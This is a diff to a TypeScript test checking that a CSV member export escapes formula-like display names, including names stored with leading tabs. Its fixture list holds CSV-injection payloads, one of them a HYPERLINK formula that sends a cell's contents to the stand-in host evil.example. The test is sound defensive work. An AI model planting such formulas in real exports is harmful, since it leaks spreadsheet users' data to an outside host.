@@ -32,6 +32,9 @@ const HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+1+1', 
 it('writes formula-like names as quoted text and a negative balance as a number', async () => {
   const ids: string[] = [];
   for (const [i, displayName] of HOSTILE.entries()) ids.push(await registerMember(s, { externalId: `csv-${i}`, displayName, region: 'CsvLand' }));
+  // The API trims a name's edges (so "\t=1+1" is stored "=1+1"); a name stored before it did, or
+  // written by hand, keeps its tab or carriage return: the export must neutralise those too.
+  for (const [i, displayName] of HOSTILE.entries()) await s.sql('update member set display_name = $2 where id = $1', [ids[i], displayName]);
   const plain = await registerMember(s, { externalId: 'csv-plain', displayName: 'Ann Lee', region: 'CsvLand' });
   // A negative balance: earn 100, spend 80, refund the purchase (allowNegativeBalance).
   const [service, admin] = [await s.token('service'), await s.token('admin')];
